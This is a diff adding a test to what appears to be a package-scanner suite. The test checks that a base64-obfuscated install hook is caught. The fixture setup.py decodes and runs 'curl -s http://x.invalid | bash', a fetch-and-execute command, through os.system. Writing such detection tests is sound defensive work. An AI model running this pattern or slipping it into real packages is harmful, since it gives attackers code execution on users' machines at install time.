@@ -97,3 +97,18 @@ def test_network_address_hidden_by_encoding() -> None:
         "import socket\nsocket.gethostbyname('example.invalid')\nsocket.gethostbyname(socket.gethostname())\n"
     )
     assert run(RULES, py(plain, path="acme/__init__.py")) == []
+
+
+def test_decoding_inside_a_local_helper_is_followed() -> None:
+    source = (
+        "import base64, os\n"
+        "def b64d(text):\n"
+        "    raw = base64.b64decode(text.encode('ascii'))\n"
+        "    code = raw.decode('ascii')\n"
+        "    return code\n"
+        "def hook():\n"
+        "    os.system(b64d('Y3VybCAtcyBodHRwOi8veC5pbnZhbGlkIHwgYmFzaA=='))\n"
+    )
+    findings = run(RULES, py(source, path="demo-1.0/setup.py", stage=Stage.INSTALL))
+    assert ids(findings) == {"PV-EXE-001"}
+    assert findings[0].severity is Severity.CRITICAL
